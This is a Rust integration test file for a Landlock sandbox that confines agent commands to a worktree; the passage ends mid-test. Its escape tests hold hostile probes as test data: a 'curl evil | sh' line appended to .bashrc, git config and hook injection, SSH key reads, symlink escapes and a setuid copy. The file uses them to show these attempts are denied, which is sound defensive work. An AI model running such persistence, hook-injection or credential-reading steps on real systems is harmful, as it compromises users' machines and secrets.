//! The Landlock sandbox against the real kernel, through the real `fanout sandbox` binary
//! (and `fanout sandbox-exec` through the library API).
//!
//! Every test needs Landlock; on a kernel without it (or with a too old ABI) the tests FAIL
//! with a message naming the kernel requirement — they never pass silently.

use fanout::sandbox::{self, EnforcementStatus, NetPolicy, Policy};
use std::ffi::OsString;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

fn fanout_bin() -> &'static str {
    env!("CARGO_BIN_EXE_fanout")
}

/// Fails the test unless the kernel offers at least Landlock ABI `min`.
fn require_abi(min: u32) -> u32 {
    match sandbox::kernel_abi() {
        Some(abi) if abi >= min => abi,
        other => panic!(
            "this test needs a Linux kernel with Landlock ABI >= {min} (Linux 6.12 or later for \
             ABI 6, 6.15 for ABI 7, with `landlock` in the `lsm=` boot parameter); this kernel \
             offers {}",
            match other {
                Some(a) => format!("ABI {a}"),
                None => "no Landlock".into(),
            }
        ),
    }
}

/// A Python interpreter that lives beneath /usr when possible (readable under `--read strict`).
fn python() -> &'static str {
    if Path::new("/usr/bin/python3").exists() {
        "/usr/bin/python3"
    } else {
        "python3"
    }
}

/// Folder holding the interpreter's standard library, for `--readable` under strict reads.
fn python_prefix() -> PathBuf {
    let out = Command::new(python())
        .args(["-c", "import sys; print(sys.base_prefix)"])
        .output()
        .expect("python3 runs");
    PathBuf::from(String::from_utf8_lossy(&out.stdout).trim())
}

/// Prelude of every probe: `attempt(f)` runs `f`, exits 3 printing `DENIED <errno>` on an
/// OSError, or prints `ALLOWED` and exits 0.
const PRELUDE: &str = r#"
import os, sys, errno, socket, signal
def attempt(f):
    try:
        f()
    except OSError as e:
        print("DENIED", errno.errorcode.get(e.errno, e.errno), e)
        sys.exit(3)
    print("ALLOWED")
    sys.exit(0)
E = os.environ
"#;

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args([
            "-c",
            "init.defaultBranch=main",
            "-c",
            "core.hooksPath=/dev/null",
            // The world belongs to the unprivileged uid when the tests run as root.
            "-c",
            "safe.directory=*",
        ])
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .expect("git runs");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A little world: a "main repository" with a worktree inside the task's writable folder, a
/// scratch folder, another task's folder, a fake HOME with secrets, and an outside folder.
struct World {
    _root: tempfile::TempDir,
    root: PathBuf,
    main: PathBuf,
    task: PathBuf,
    tree: PathBuf,
    scratch: PathBuf,
    other: PathBuf,
    home: PathBuf,
    outside: PathBuf,
}

const MAIN_FILE: &str = "main file\n";
const BASHRC: &str = "# bashrc\n";
const SECRET: &str = "-----BEGIN FAKE KEY-----\n";

impl World {
    fn new() -> World {
        let dir = tempfile::Builder::new()
            .prefix("fanout-sbx-")
            .tempdir()
            .unwrap();
        let root = dir.path().canonicalize().unwrap();
        let p = |n: &str| root.join(n);
        let w = World {
            main: p("main"),
            task: p("task"),
            tree: p("task/tree"),
            scratch: p("scratch"),
            other: p("other-task"),
            home: p("home"),
            outside: p("outside"),
            root,
            _root: dir,
        };
        for d in [&w.main, &w.task, &w.scratch, &w.other, &w.home, &w.outside] {
            std::fs::create_dir_all(d).unwrap();
        }
        std::fs::create_dir_all(w.home.join(".ssh")).unwrap();
        std::fs::write(w.home.join(".bashrc"), BASHRC).unwrap();
        std::fs::write(w.home.join(".ssh/id_rsa"), SECRET).unwrap();
        std::fs::write(w.other.join("theirs.txt"), "theirs\n").unwrap();
        std::fs::write(w.outside.join("keep.txt"), "keep\n").unwrap();
        git(&w.main, &["init", "-q"]);
        std::fs::write(w.main.join("file.txt"), MAIN_FILE).unwrap();
        git(&w.main, &["add", "file.txt"]);
        git(&w.main, &["commit", "-q", "-m", "base"]);
        git(
            &w.main,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "task",
                w.tree.to_str().unwrap(),
            ],
        );
        // As root, `fanout sandbox` runs the command as `nobody`: the world is that user's, so
        // these tests still show what Landlock denies (not what file permissions deny).
        if crate::support::is_root() {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&w.root, std::fs::Permissions::from_mode(0o755)).unwrap();
            crate::support::chown_tree(&w.root, crate::support::UNPRIVILEGED_UID);
        }
        w
    }

    /// `fanout sandbox -w task -w scratch [extra] -- cmd…` with TMPDIR=scratch, HOME=home.
    fn cmd(&self, extra: &[&str], cmd: &[&str]) -> Command {
        let mut c = Command::new(fanout_bin());
        c.arg("sandbox")
            .arg("-w")
            .arg(&self.task)
            .arg("-w")
            .arg(&self.scratch)
            .args(extra)
            .arg("--")
            .args(cmd)
            .current_dir(&self.tree)
            .env("TMPDIR", &self.scratch)
            .env("HOME", &self.home)
            .env("TASK", &self.task)
            .env("TREE", &self.tree)
            .env("SCRATCH", &self.scratch)
            .env("OTHER", &self.other)
            .env("HOMEDIR", &self.home)
            .env("OUTSIDE", &self.outside)
            .env("MAIN", &self.main)
            .env("ROOT", &self.root)
            .stdin(Stdio::null());
        c
    }

    fn run(&self, extra: &[&str], cmd: &[&str]) -> Output {
        self.cmd(extra, cmd).output().expect("fanout runs")
    }

    fn py(&self, extra: &[&str], body: &str) -> Output {
        let script = format!("{PRELUDE}\n{body}");
        self.run(extra, &[python(), "-c", &script])
    }

    fn py_env(&self, extra: &[&str], env: &[(&str, String)], body: &str) -> Output {
        let script = format!("{PRELUDE}\n{body}");
        let mut c = self.cmd(extra, &[python(), "-c", &script]);
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().expect("fanout runs")
    }

    /// Asserts nothing outside the writable folders changed.
    fn assert_outside_unchanged(&self) {
        let read =
            |p: PathBuf| std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{p:?}: {e}"));
        assert_eq!(read(self.main.join("file.txt")), MAIN_FILE);
        assert_eq!(read(self.home.join(".bashrc")), BASHRC);
        assert_eq!(read(self.home.join(".ssh/id_rsa")), SECRET);
        assert_eq!(read(self.other.join("theirs.txt")), "theirs\n");
        assert_eq!(read(self.outside.join("keep.txt")), "keep\n");
        let names = |d: &Path| {
            let mut v: Vec<String> = std::fs::read_dir(d)
                .unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            v.sort();
            v
        };
        assert_eq!(names(&self.outside), vec!["keep.txt"]);
        assert_eq!(names(&self.other), vec!["theirs.txt"]);
        assert_eq!(names(&self.home), vec![".bashrc", ".ssh"]);
        assert_eq!(names(&self.main), vec![".git", "file.txt"]);
    }
}

fn show(out: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}--- stderr\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn assert_ok(out: &Output) {
    assert_eq!(out.status.code(), Some(0), "{}", show(out));
}

/// The probe's operation was denied by the kernel with a permission error.
fn assert_denied(out: &Output) {
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(3),
        "expected a denial\n{}",
        show(out)
    );
    assert!(
        ["EACCES", "EPERM", "EXDEV"]
            .iter()
            .any(|e| stdout.contains(&format!("DENIED {e}"))),
        "expected EACCES/EPERM/EXDEV\n{}",
        show(out)
    );
}

// ---------------------------------------------------------------- status and failure modes

#[test]
fn status_is_fully_enforced() {
    let abi = require_abi(6);
    let w = World::new();
    let status = w.root.join("status.json");
    let out = w.run(&["--status-file", status.to_str().unwrap()], &["true"]);
    assert_ok(&out);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!(
            "fanout sandbox: fully_enforced (Landlock ABI {abi})"
        )),
        "{stderr}"
    );
    let report = sandbox::read_report(&status).unwrap();
    assert_eq!(
        report.status,
        EnforcementStatus::FullyEnforced,
        "{report:?}"
    );
    assert_eq!(report.abi, Some(abi));
    assert!(report.missing.is_empty());
    let json = std::fs::read_to_string(&status).unwrap();
    assert!(json.contains("\"fully_enforced\""), "{json}");
}

#[test]
fn too_old_kernel_fails_closed() {
    let abi = require_abi(3);
    let w = World::new();
    let status = w.root.join("status.json");
    let marker = w.task.join("ran");
    let script = format!("touch {}", marker.display());
    for how in ["flag", "env"] {
        let mut c = if how == "flag" {
            w.cmd(
                &["--min-abi", "99", "--status-file", status.to_str().unwrap()],
                &["sh", "-c", &script],
            )
        } else {
            w.cmd(
                &["--status-file", status.to_str().unwrap()],
                &["sh", "-c", &script],
            )
        };
        if how == "env" {
            c.env(sandbox::MIN_ABI_ENV, "99");
        }
        let out = c.output().unwrap();
        assert_eq!(
            out.status.code(),
            Some(sandbox::EXIT_NOT_ENFORCED),
            "{}",
            show(&out)
        );
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!(
                "this kernel offers Landlock ABI {abi}, the sandbox needs ABI 99"
            )) && stderr.contains("--sandbox off"),
            "{stderr}"
        );
        assert!(!marker.exists(), "the command must not run");
        let report = sandbox::read_report(&status).unwrap();
        assert_eq!(report.status, EnforcementStatus::NotEnforced);
        assert_eq!(report.abi, Some(abi));
        assert!(report.message.unwrap().contains("--sandbox off"));
    }
}

#[test]
fn exit_codes_pass_through() {
    require_abi(3);
    let w = World::new();
    assert_eq!(w.run(&[], &["sh", "-c", "exit 7"]).status.code(), Some(7));
    assert_eq!(
        w.run(&[], &["sh", "-c", "kill -TERM $$"]).status.code(),
        Some(128 + 15)
    );
    let out = w.run(&[], &["/nonexistent/program"]);
    assert_eq!(
        out.status.code(),
        Some(sandbox::EXIT_EXEC_FAILED),
        "{}",
        show(&out)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot execute /nonexistent/program"));
}

#[test]
fn library_api_runs_the_helper() {
    let abi = require_abi(6);
    let w = World::new();
    let status = w.root.join("api-status.json");
    let policy = Policy::workspace_write(vec![w.task.clone(), w.scratch.clone()]);
    let probe = w.outside.join("probe.txt");
    let script = format!("echo x > {}", probe.display());
    let args: Vec<OsString> = vec!["-c".into(), script.into()];
    let out = sandbox::supervised_command(
        Path::new(fanout_bin()),
        &policy,
        &status,
        "sh".as_ref(),
        &args,
    )
    .stdin(Stdio::null())
    .output()
    .unwrap();
    assert_ne!(out.status.code(), Some(0), "{}", show(&out));
    assert!(!probe.exists());
    let report = sandbox::read_report(&status).unwrap();
    assert_eq!(report.status, EnforcementStatus::FullyEnforced);
    assert_eq!(report.abi, Some(abi));

    // `--sandbox off`: same supervisor, no confinement, status `off`.
    let mut off = policy.clone();
    off.enforce = false;
    let out =
        sandbox::supervised_command(Path::new(fanout_bin()), &off, &status, "sh".as_ref(), &args)
            .stdin(Stdio::null())
            .output()
            .unwrap();
    assert_ok(&out);
    assert!(probe.exists());
    assert_eq!(
        sandbox::read_report(&status).unwrap().status,
        EnforcementStatus::Off
    );
    let _ = std::fs::remove_file(&probe);
}

// ---------------------------------------------------------------- what an agent can do

#[test]
fn files_and_folders_in_the_worktree() {
    require_abi(3);
    let w = World::new();
    let out = w.py(
        &[],
        r#"
t = E["TREE"]
os.makedirs(f"{t}/a/b")
open(f"{t}/a/b/new.txt", "w").write("one\n")
open(f"{t}/a/b/new.txt", "a").write("two\n")
open(f"{t}/file.txt", "w").write("edited\n")
os.rename(f"{t}/a/b/new.txt", f"{t}/a/renamed.txt")
os.rename(f"{t}/a/b", f"{t}/c")
os.rename(f"{t}/a/renamed.txt", f"{t}/c/moved.txt")
os.symlink("moved.txt", f"{t}/c/link")
os.truncate(f"{t}/c/moved.txt", 4)
os.chmod(f"{t}/c/moved.txt", 0o600)
open(f"{t}/gone.txt", "w").close(); os.unlink(f"{t}/gone.txt")
os.mkdir(f"{t}/empty"); os.rmdir(f"{t}/empty")
os.rmdir(f"{t}/a")
print(open(f"{t}/c/link").read(), end="")
"#,
    );
    assert_ok(&out);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "one\n");
    assert_eq!(
        std::fs::read_to_string(w.tree.join("file.txt")).unwrap(),
        "edited\n"
    );
    assert!(w.tree.join("c/moved.txt").exists());
    assert!(!w.tree.join("a").exists());
    w.assert_outside_unchanged();
}

#[test]
fn tmpdir_points_into_scratch() {
    require_abi(3);
    let w = World::new();
    let out = w.py(
        &[],
        r#"
import tempfile, subprocess
fd, p = tempfile.mkstemp(); os.write(fd, b"x"); os.close(fd)
assert p.startswith(E["SCRATCH"] + "/"), p
d = tempfile.mkdtemp(); open(d + "/f", "w").write("y")
print(subprocess.run(["mktemp"], capture_output=True, text=True, check=True).stdout.strip())
"#,
    );
    assert_ok(&out);
    let made = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(made.starts_with(w.scratch.to_str().unwrap()), "{made}");
    assert!(Path::new(&made).exists());
}

#[test]
fn git_status_and_diff_in_a_worktree() {
    require_abi(3);
    let w = World::new();
    let out = w.run(
        &[],
        &[
            "sh",
            "-c",
            "set -e; echo changed >> file.txt; echo new > untracked.txt; \
             git status --porcelain; git diff",
        ],
    );
    assert_ok(&out);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains(" M file.txt"), "{}", show(&out));
    assert!(stdout.contains("?? untracked.txt"), "{}", show(&out));
    assert!(stdout.contains("+changed"), "{}", show(&out));
    // The worktree's metadata lives in the main repository's .git, which stays read-only.
    let out = w.run(
        &[],
        &[
            "git",
            "-c",
            "user.name=agent",
            "-c",
            "user.email=agent@example.com",
            "commit",
            "-qam",
            "agent commit",
        ],
    );
    assert_ne!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(git(&w.main, &["rev-list", "--count", "--all"]).trim(), "1");
    w.assert_outside_unchanged();
}

#[test]
fn redirect_to_dev_null() {
    require_abi(3);
    let w = World::new();
    let out = w.run(
        &[],
        &[
            "sh",
            "-c",
            "set -e; echo x > /dev/null; echo y >> /dev/null; head -c 4 /dev/zero > /dev/null; \
             : > /dev/null; echo done",
        ],
    );
    assert_ok(&out);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "done\n");
    let out = w.py(&[], r#"attempt(lambda: open("/dev/null", "w").write("x"))"#);
    assert_ok(&out);
}

#[test]
fn open_a_pty() {
    require_abi(5);
    let w = World::new();
    let out = w.py(
        &[],
        r#"
import pty, termios, tty
m, s = os.openpty()
assert os.isatty(s)
attrs = termios.tcgetattr(s)
tty.setraw(s)
termios.tcsetattr(s, termios.TCSANOW, attrs)
os.write(s, b"ping")
print(os.read(m, 4).decode(), os.ttyname(s).startswith("/dev/pts/"))
"#,
    );
    assert_ok(&out);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "ping True\n");
    if Path::new("/usr/bin/script").exists() {
        let out = w.run(&[], &["script", "-qec", "tty", "/dev/null"]);
        assert_ok(&out);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("/dev/pts/"),
            "{}",
            show(&out)
        );
    }
}

#[test]
fn connect_to_an_allowed_port() {
    require_abi(4);
    let w = World::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        let mut buf = [0u8; 5];
        s.read_exact(&mut buf).unwrap();
        s.write_all(b"pong").unwrap();
        buf
    });
    let out = w.py_env(
        &["--allow-port", &port.to_string()],
        &[("PORT", port.to_string())],
        r#"
s = socket.create_connection(("127.0.0.1", int(E["PORT"])))
s.sendall(b"hello"); print(s.recv(4).decode())
"#,
    );
    assert_ok(&out);
    assert_eq!(String::from_utf8_lossy(&out.stdout), "pong\n");
    assert_eq!(&server.join().unwrap(), b"hello");
}

#[test]
fn strict_reads_still_run_tools() {
    require_abi(3);
    let w = World::new();
    let prefix = python_prefix();
    let mut extra = vec!["--read", "strict", "--readable", w.main.to_str().unwrap()];
    if !prefix.starts_with("/usr") {
        extra.extend(["--readable", prefix.to_str().unwrap()]);
    }
    let mut c = w.cmd(
        &extra,
        &[
            "sh",
            "-c",
            "set -e; cat \"$MAIN/file.txt\"; echo more >> file.txt; git status --porcelain; \
             git diff --stat",
        ],
    );
    c.env("HOME", &w.scratch);
    let out = c.output().unwrap();
    assert_ok(&out);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.starts_with(MAIN_FILE) && stdout.contains(" M file.txt"),
        "{}",
        show(&out)
    );
    let out = w.py(&extra, r#"import json, subprocess; print(json.dumps([1]))"#);
    assert_ok(&out);
}

// ---------------------------------------------------------------- escapes

#[test]
fn escape_write_main_repo_worktree() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["MAIN"] + "/file.txt", "a").write("x"))"#,
    ));
    assert_denied(&w.py(&[], r#"attempt(lambda: open(E["MAIN"] + "/new.txt", "w"))"#));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.unlink(E["MAIN"] + "/file.txt"))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_main_git_config_and_hooks() {
    require_abi(3);
    let w = World::new();
    let git_dir = w.main.join(".git");
    let config = std::fs::read(git_dir.join("config")).unwrap();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["MAIN"] + "/.git/config", "a").write("[core]\n\tfsmonitor = evil\n"))"#,
    ));
    assert_denied(&w.py(
        &[],
        r##"
def f():
    p = E["MAIN"] + "/.git/hooks/post-checkout"
    open(p, "w").write("#!/bin/sh\necho pwned\n"); os.chmod(p, 0o755)
attempt(f)
"##,
    ));
    // Through git itself, from the worktree (it writes the common .git/config).
    let out = w.run(&[], &["git", "config", "core.hooksPath", "/tmp/evil"]);
    assert_ne!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(std::fs::read(git_dir.join("config")).unwrap(), config);
    assert!(!git_dir.join("hooks/post-checkout").exists());
    w.assert_outside_unchanged();
}

#[test]
fn escape_write_home_bashrc() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\n"))"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(os.path.expanduser("~/.profile"), "w"))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_write_tmp_outside_scratch() {
    require_abi(3);
    let w = World::new();
    let name = format!("fanout-escape-{}", std::process::id());
    let in_tmp = Path::new("/tmp").join(&name);
    let out = w.py_env(
        &[],
        &[("NAME", name.clone())],
        r#"attempt(lambda: open("/tmp/" + E["NAME"], "w").write("x"))"#,
    );
    assert_denied(&out);
    assert!(!in_tmp.exists());
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["ROOT"] + "/loose.txt", "w"))"#,
    ));
    assert!(!w.root.join("loose.txt").exists());
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.mkdir("/tmp/" + str(os.getpid())))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_through_symlink_in_worktree() {
    require_abi(3);
    let w = World::new();
    // A link planted beforehand, and one the agent creates itself.
    std::os::unix::fs::symlink(w.home.join(".bashrc"), w.tree.join("planted")).unwrap();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["TREE"] + "/planted", "a").write("x"))"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"
os.symlink(E["OUTSIDE"], E["TREE"] + "/out")
attempt(lambda: open(E["TREE"] + "/out/new.txt", "w"))
"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["TREE"] + "/out/keep.txt", "w"))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_rename_out_of_worktree() {
    require_abi(3);
    let w = World::new();
    std::fs::write(w.tree.join("leave.txt"), "x").unwrap();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.rename(E["TREE"] + "/leave.txt", E["OUTSIDE"] + "/leave.txt"))"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.rename(E["OUTSIDE"] + "/keep.txt", E["TREE"] + "/stolen.txt"))"#,
    ));
    assert!(w.tree.join("leave.txt").exists());
    assert!(!w.tree.join("stolen.txt").exists());
    w.assert_outside_unchanged();
}

#[test]
fn escape_hard_link_outside_file_into_worktree() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.link(E["HOMEDIR"] + "/.bashrc", E["TREE"] + "/bashrc"))"#,
    ));
    assert!(!w.tree.join("bashrc").exists());
    w.assert_outside_unchanged();
}

#[test]
fn escape_truncate_outside_file() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.truncate(E["HOMEDIR"] + "/.bashrc", 0))"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: os.open(E["OUTSIDE"] + "/keep.txt", os.O_RDONLY | os.O_TRUNC))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_mkfifo_outside() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(&[], r#"attempt(lambda: os.mkfifo(E["OUTSIDE"] + "/fifo"))"#));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: socket.socket(socket.AF_UNIX).bind(E["OUTSIDE"] + "/sock"))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_write_another_tasks_worktree() {
    require_abi(3);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["OTHER"] + "/theirs.txt", "w"))"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"attempt(lambda: open(E["OTHER"] + "/mine.txt", "w"))"#,
    ));
    w.assert_outside_unchanged();
}

#[test]
fn escape_connect_to_a_port_not_allowed() {
    require_abi(4);
    let w = World::new();
    let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
    let denied = TcpListener::bind("127.0.0.1:0").unwrap();
    denied.set_nonblocking(true).unwrap();
    let port = denied.local_addr().unwrap().port();
    let allow = allowed.local_addr().unwrap().port().to_string();
    let out = w.py_env(
        &["--allow-port", &allow],
        &[("PORT", port.to_string())],
        r#"attempt(lambda: socket.create_connection(("127.0.0.1", int(E["PORT"]))))"#,
    );
    assert_denied(&out);
    assert!(denied.accept().is_err(), "no connection may arrive");
    // `--net none` denies even the default port list.
    let out = w.py_env(
        &["--net", "none"],
        &[("PORT", allow.clone())],
        r#"attempt(lambda: socket.create_connection(("127.0.0.1", int(E["PORT"]))))"#,
    );
    assert_denied(&out);
}

#[test]
fn escape_bind_a_tcp_port() {
    require_abi(4);
    let w = World::new();
    assert_denied(&w.py(
        &[],
        r#"
def f():
    s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
attempt(f)
"#,
    ));
    assert_denied(&w.py(
        &[],
        r#"
def f():
    s = socket.socket(socket.AF_INET6); s.bind(("::1", 0)); s.listen()
attempt(f)
"#,
    ));
}

#[test]
fn escape_signal_processes_outside() {
    require_abi(6);
    let w = World::new();
    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
    let env = [
        ("VICTIM", victim.id().to_string()),
        ("FANOUT_PID", std::process::id().to_string()),
    ];
    // The test process itself (stands for fanout), an unrelated process, and the supervisor.
    for target in ["int(E['FANOUT_PID'])", "int(E['VICTIM'])", "os.getppid()"] {
        let body = format!("attempt(lambda: os.kill({target}, signal.SIGUSR1))");
        let out = w.py_env(&[], &env, &body);
        assert_denied(&out);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("DENIED EPERM"),
            "{}",
            show(&out)
        );
    }
    assert!(
        victim.try_wait().unwrap().is_none(),
        "the victim must be alive"
    );
    // Signals inside the sandbox still work.
    let out = w.py(&[], r#"attempt(lambda: os.kill(os.getpid(), 0))"#);
    assert_ok(&out);
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn escape_connect_to_abstract_unix_socket() {
    require_abi(6);
    use std::os::linux::net::SocketAddrExt;
    let w = World::new();
    let name = format!("fanout-test-{}-{}", std::process::id(), line!());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let out = w.py_env(
        &[],
        &[("NAME", name)],
        r#"attempt(lambda: socket.socket(socket.AF_UNIX).connect("\0" + E["NAME"]))"#,
    );
    assert_denied(&out);
    assert!(listener.accept().is_err(), "no connection may arrive");
}

#[test]
fn no_privilege_gain_through_setuid() {
    require_abi(3);
    let w = World::new();
    let out = w.run(&[], &["grep", "NoNewPrivs", "/proc/self/status"]);
    assert_ok(&out);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("NoNewPrivs:\t1"),
        "{}",
        show(&out)
    );
    // A setuid-root binary would make the command root again; under no_new_privs the kernel
    // ignores the setuid bit (as root, the command runs as nobody and stays nobody).
    let id = Path::new("/usr/bin/id");
    if nix::unistd::geteuid().is_root() && id.exists() {
        let suid = w.scratch.join("suid-id");
        std::fs::copy(id, &suid).unwrap();
        std::os::unix::fs::chown(&suid, Some(0), Some(0)).unwrap();
        std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
        // Another test thread may fork while the copy is open for writing: its child holds the
        // descriptor until it execs, and exec of the copy fails with ETXTBSY meanwhile.
        let out = (0..50)
            .find_map(|_| {
                let out = w.run(&[], &[suid.to_str().unwrap(), "-u"]);
                if out.status.code() == Some(sandbox::EXIT_EXEC_FAILED)
                    && String::from_utf8_lossy(&out.stderr).contains("busy")
                {
                    std::thread::sleep(Duration::from_millis(20));
                    return None;
                }
                Some(out)
            })
            .expect("the copy stays busy");
        assert_ok(&out);
        assert_eq!(
            String::from_utf8_lossy(&out.stdout).trim(),
            "65534",
            "{}",
            show(&out)
        );
    }
}

#[test]
fn escape_read_ssh_key_under_strict_reads() {
    require_abi(3);
    let w = World::new();
    let body = r#"attempt(lambda: print(open(os.path.expanduser("~/.ssh/id_rsa")).read()))"#;
    // The control: readable without --read strict.
    let out = w.py(&[], body);
    assert_ok(&out);
    let prefix = python_prefix();
    let mut extra = vec!["--read", "strict"];
    if !prefix.starts_with("/usr") {
        extra.extend(["--readable", prefix.to_str().unwrap()]);
    }
    let out = w.py(&extra, body);
    assert_denied(&out);
    assert!(!String::from_utf8_lossy(&out.stdout).contains("FAKE KEY"));
    assert_denied(&w.py(&extra, r#"attempt(lambda: os.listdir(E["HOMEDIR"]))"#));
}

#[test]
fn inherited_descriptors_are_closed() {
    require_abi(3);
    let w = World::new();
    // fd 7 opened for writing on a file outside, as a careless parent might leak it.
    let target = w.outside.join("keep.txt");
    let script = format!("exec 7>>'{}'; exec \"$0\" \"$@\"", target.display());
    let inner = w.cmd(
        &[],
        &[
            python(),
            "-c",
            &format!("{PRELUDE}\nattempt(lambda: os.write(7, b'leak'))"),
        ],
    );
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg(script)
        .arg(inner.get_program())
        .args(inner.get_args());
    for (k, v) in inner.get_envs() {
        if let Some(v) = v {
            c.env(k, v);
        }
    }
    let out = c.current_dir(&w.tree).output().unwrap();
    assert_eq!(out.status.code(), Some(3), "{}", show(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("DENIED EBADF"),
        "{}",
        show(&out)
    );
    w.assert_outside_unchanged();
}

// ---------------------------------------------------------------- no process outlives its task

fn alive(pid: i32) -> bool {
    alive_running(pid, b"sleep\x00300")
}

/// `pid` exists, is not a zombie, and its command line starts with `cmdline` (a reused pid
/// would not).
fn alive_running(pid: i32, cmdline: &[u8]) -> bool {
    let state = std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| {
            s.rsplit(')')
                .next()
                .map(|r| r.trim_start().starts_with('Z'))
        });
    state == Some(false)
        && std::fs::read(format!("/proc/{pid}/cmdline"))
            .map(|c| c.starts_with(cmdline))
            .unwrap_or(false)
}

fn wait_for_file(p: &Path) -> String {
    let t = Instant::now();
    loop {
        if let Ok(s) = std::fs::read_to_string(p) {
            if s.ends_with('\n') {
                return s;
            }
        }
        assert!(
            t.elapsed() < Duration::from_secs(20),
            "{p:?} never appeared"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Python that starts `sleep 300` double-forked into its own session, a plain background
/// `sleep 300`, and writes both pids to $TASK/pids.
const DAEMONIZE: &str = r#"
import subprocess
r, wr = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.close(r)
        os.write(wr, str(os.getpid()).encode())
        os.close(wr)
        os.execvp("sleep", ["sleep", "300"])
    os._exit(0)
os.close(wr)
os.wait()
daemon = int(os.read(r, 32))
plain = subprocess.Popen(["sleep", "300"]).pid
open(E["TASK"] + "/pids.tmp", "w").write(f"{daemon} {plain} {os.getpid()}\n")
os.rename(E["TASK"] + "/pids.tmp", E["TASK"] + "/pids")
"#;

#[test]
fn detached_processes_die_with_the_command() {
    require_abi(3);
    let w = World::new();
    let t = Instant::now();
    let out = w.py(&[], DAEMONIZE);
    assert_ok(&out);
    let pids: Vec<i32> = wait_for_file(&w.task.join("pids"))
        .split_whitespace()
        .map(|p| p.parse().unwrap())
        .collect();
    assert_eq!(pids.len(), 3);
    for pid in &pids[..2] {
        let pid = *pid;
        assert!(
            !alive(pid),
            "pid {pid} (sleep 300) outlived the sandboxed command"
        );
    }
    assert!(t.elapsed() < Duration::from_secs(20));
}

#[test]
fn stopping_the_supervisor_kills_the_tree() {
    require_abi(3);
    let w = World::new();
    // The command keeps running, and one of its processes ignores SIGTERM.
    let body = format!(
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n{DAEMONIZE}\nimport time\ntime.sleep(300)\n"
    );
